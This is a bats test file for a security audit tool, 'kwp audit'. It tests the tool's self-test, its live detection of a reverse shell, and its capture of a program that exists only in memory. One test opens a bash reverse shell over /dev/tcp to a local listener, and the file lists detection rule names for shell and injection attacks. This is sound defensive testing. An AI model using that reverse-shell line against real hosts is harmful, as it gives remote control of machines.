#!/usr/bin/env bats
# look.bats: what kwp audit does besides watching: its self test, a look at what there is now, evidence that is kept.
bats_require_minimum_version 1.5.0
load guest
load ../helpers

setup_file() { ip link set lo up; }
setup() { cd "$BATS_TEST_TMPDIR"; }

@test "--selftest: each act that can be tried here is seen" {
	"$KWP" audit --selftest >table 2>err || { grep 'not seen  ' table; false; }
	grep -qE '^[0-9]+ seen, 0 not seen, ' table
	for rule in reverse-shell bind-shell fileless-exec drift process-injection root-gained kernel-program; do
		grep -qE "^$rule +[a-z]+ +(seen|can't be tried here) " table
	done
}

@test "--now: a shell on a connection, and nothing of the guest itself" {
	run -0 "$KWP" audit --now -q --severity medium --filter 'not process.executable ~ ^/tmp/ and not rule.name == drift'
	timeout 90 peer 7007 '' >peer7007 3>&- &
	until_true 20 grep -q ready peer7007
	# It does not outlive a test that fails.
	setsid bash -c '{ sleep 90; kill -KILL $$; } & exec bash 0<>/dev/tcp/127.0.0.1/7007 >&0 2>&0' >/dev/null 2>&1 3>&- &
	shell=$!
	until_true 10 bash -c "[[ \$(readlink /proc/$shell/fd/2) = socket:* ]]"
	run -1 "$KWP" audit --now -q -o json
	grep -q '"reverse-shell"' <<<"$output"
	kill -KILL "$shell"
}

@test "--capture keeps the bytes of a program that is only in memory" {
	"$KWP" audit -q -o json -w out --capture kept -- act memfd-exec hidden "$(type -P sleep)" 1 >/dev/null
	cmp "$(type -P sleep)" "kept/$(jq -r 'select(.event.rule.name == "fileless-exec").evidence[] | select(.kind == "exe").sha256' kept/manifest.jsonl)"
}
